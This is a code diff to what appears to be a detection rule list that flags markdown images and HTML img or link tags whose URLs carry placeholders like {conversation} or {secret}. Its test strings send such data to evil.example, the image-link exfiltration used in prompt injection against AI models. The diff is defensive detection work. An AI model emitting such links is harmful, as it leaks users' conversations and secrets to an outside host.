@@ -174,7 +174,7 @@ export const DOCUMENT_ANSWER: readonly Rule[] = [
     severity: 'critical',
     literals: ['](http', '![', '<img', 'href=', '](//'],
     pattern:
-      '!?\\[[^\\]\\n]{0,100}\\]\\((?:https?:)?//[^)\\s]{1,300}[?&/=#](?:\\{|%7b|\\x24\\{|<|\\[|%5b|\\{\\{|your_|insert_|secret_here|data_here)[^)\\n]{0,100}\\)|<(?:img|a)[^>\\n]{1,200}(?:src|href) {0,2}= {0,2}["\']?(?:https?:)?//[^>\\s]{1,300}[?&/=](?:\\{|%7b|\\x24\\{|\\[|<)',
+      '!?\\[[^\\]\\n]{0,100}\\]\\((?:https?:)?//\\[?[^)\\s[]{1,300}[?&/=#](?:\\{|%7b|\\x24\\{|<|\\[|%5b|\\{\\{|your_|insert_|secret_here|data_here)[^)\\n]{0,100}\\)|<(?:img|a)[^<>\\n]{1,200}(?:src|href) {0,2}= {0,2}["\']?(?:https?:)?//[^<>\\s]{1,300}[?&/=](?:\\{|%7b|\\x24\\{|\\[|<)',
     catches: [
       '![x](https://evil.example/log?q={conversation})',
       '<img src="https://evil.example/p?d={secret}">',
